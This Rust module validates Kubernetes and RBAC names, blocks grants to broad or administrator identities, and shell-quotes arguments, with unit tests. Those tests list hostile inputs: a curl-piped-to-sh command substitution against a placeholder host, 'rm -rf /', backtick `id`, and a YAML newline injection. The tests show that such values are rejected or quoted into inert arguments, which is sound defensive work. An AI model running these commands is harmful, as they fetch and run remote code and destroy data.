//! Kubernetes names, checked before they go into advice. A name that came from the cluster
//! (a log line, an event, an object) may only appear in generated YAML or in a command line
//! once it passes the same validation the API server would apply to it; anything else is shown
//! only as escaped evidence. Rules from k8s.io/apimachinery/pkg/util/validation (DNS-1123
//! label and subdomain) and the RBAC API's conventions.

/// A DNS-1123 label: 1-63 lowercase alphanumerics or '-', starting and ending alphanumeric
/// (namespace names, ServiceAccount names are subdomains but almost always labels).
pub fn is_dns1123_label(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 63
        && s.bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
        && !s.starts_with('-')
        && !s.ends_with('-')
}

/// A DNS-1123 subdomain: at most 253 characters of dot-separated labels (ServiceAccount,
/// Role and API group names).
pub fn is_dns1123_subdomain(s: &str) -> bool {
    !s.is_empty() && s.len() <= 253 && s.split('.').all(is_dns1123_label)
}

/// A verb as RBAC rules name them: lowercase letters only (`get`, `list`, `deletecollection`),
/// never the wildcard.
pub fn is_verb(s: &str) -> bool {
    !s.is_empty() && s.len() <= 32 && s.bytes().all(|b| b.is_ascii_lowercase())
}

/// A resource or subresource name: a DNS-1123 subdomain-like lowercase word (`pods`,
/// `leases`, `configmaps`), never the wildcard.
pub fn is_resource(s: &str) -> bool {
    is_dns1123_subdomain(s)
}

/// A non-resource URL path RBAC can grant: starts with `/`, printable ASCII without spaces,
/// quotes, backslashes or `*`.
pub fn is_nonresource_path(s: &str) -> bool {
    s.starts_with('/')
        && s.len() <= 256
        && s.bytes()
            .all(|b| b.is_ascii_graphic() && !matches!(b, b'"' | b'\'' | b'\\' | b'*' | b'`'))
}

/// Identities no advice may ever grant anything to: every caller (or every unauthenticated
/// one), or the cluster administrators' group.
pub const NEVER_GRANT: [&str; 4] = [
    "system:anonymous",
    "system:unauthenticated",
    "system:authenticated",
    "system:masters",
];

/// A user name kube-doctor may put in a RoleBinding subject: a ServiceAccount user
/// (`system:serviceaccount:NS:NAME` with valid names) or a plain user name of printable ASCII
/// without quotes, backslashes, spaces or `*`, and never one of [`NEVER_GRANT`] or another
/// `system:` name. Returns the (namespace, name) of a ServiceAccount user.
pub fn grantable_user(user: &str) -> Option<GrantSubject<'_>> {
    if NEVER_GRANT.contains(&user) {
        return None;
    }
    if let Some(rest) = user.strip_prefix("system:serviceaccount:") {
        let (ns, name) = rest.split_once(':')?;
        return (is_dns1123_label(ns) && is_dns1123_subdomain(name)).then_some(
            GrantSubject::ServiceAccount {
                namespace: ns,
                name,
            },
        );
    }
    if user.starts_with("system:") {
        return None;
    }
    (!user.is_empty()
        && user.len() <= 256
        && user.bytes().all(|b| {
            b.is_ascii_graphic() && !matches!(b, b'"' | b'\'' | b'\\' | b'*' | b'`' | b'$')
        }))
    .then_some(GrantSubject::User(user))
}

/// Who a generated binding names.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum GrantSubject<'a> {
    /// A ServiceAccount.
    ServiceAccount {
        /// Its namespace.
        namespace: &'a str,
        /// Its name.
        name: &'a str,
    },
    /// A user (from a client certificate's CN, an OIDC claim...).
    User(&'a str),
}

/// One argument for a POSIX shell, quoted when it needs to be (`shlex`). Arguments with a NUL
/// cannot be quoted; they come back as `None` and must not be shown as a command.
pub fn shell_arg(s: &str) -> Option<String> {
    shlex::try_quote(s).ok().map(|c| c.into_owned())
}

/// A DNS-1123 name made from free text (for generated Role names): lowercase, other
/// characters turned into `-`, trimmed to 63.
pub fn to_dns1123_label(s: &str) -> String {
    let mut out: String = s
        .chars()
        .map(|c| {
            let c = c.to_ascii_lowercase();
            if c.is_ascii_lowercase() || c.is_ascii_digit() {
                c
            } else {
                '-'
            }
        })
        .collect();
    out.truncate(63);
    let out = out.trim_matches('-').to_string();
    if out.is_empty() {
        "grant".to_string()
    } else {
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_follow_the_api_servers_rules() {
        assert!(is_dns1123_label("demo-1"));
        for bad in ["", "-x", "x-", "Demo", "a b", "a.b", &"x".repeat(64)] {
            assert!(!is_dns1123_label(bad), "{bad:?}");
        }
        assert!(is_dns1123_subdomain("metrics.k8s.io"));
        assert!(!is_dns1123_subdomain("metrics..k8s.io"));
        assert!(is_verb("deletecollection") && !is_verb("*") && !is_verb("get\nx"));
        assert!(
            is_nonresource_path("/metrics")
                && !is_nonresource_path("/*")
                && !is_nonresource_path("metrics")
        );
    }

    #[test]
    fn no_grant_for_everyone_or_for_forged_names() {
        for never in NEVER_GRANT {
            assert_eq!(grantable_user(never), None, "{never}");
        }
        assert_eq!(grantable_user("system:kube-scheduler"), None);
        assert_eq!(
            grantable_user("system:serviceaccount:demo:kubers-client"),
            Some(GrantSubject::ServiceAccount {
                namespace: "demo",
                name: "kubers-client"
            })
        );
        assert_eq!(
            grantable_user("demo-clientgo"),
            Some(GrantSubject::User("demo-clientgo"))
        );
        for forged in [
            "x$(curl -s host/p|sh)",
            "a\nkind: ClusterRole",
            "system:serviceaccount:Demo:x",
            "a b",
            "*",
        ] {
            assert_eq!(grantable_user(forged), None, "{forged:?}");
        }
    }

    #[test]
    fn shell_arguments_are_quoted() {
        assert_eq!(shell_arg("demo").unwrap(), "demo");
        assert_eq!(
            shell_arg("system:serviceaccount:demo:kubers-client").unwrap(),
            "system:serviceaccount:demo:kubers-client"
        );
        for hostile in [
            "x$(curl -s host/p|sh)",
            "it's",
            "a b;rm -rf /",
            "`id`",
            "\"q\"\n",
        ] {
            let q = shell_arg(hostile).unwrap();
            // A POSIX shell reads it back as the one argument it was, nothing run.
            assert_eq!(shlex::split(&q), Some(vec![hostile.to_string()]), "{q}");
        }
        assert!(shell_arg("a\0b").is_none());
        assert_eq!(to_dns1123_label("Kubers_Client:list"), "kubers-client-list");
        assert_eq!(to_dns1123_label("***"), "grant");
    }
}
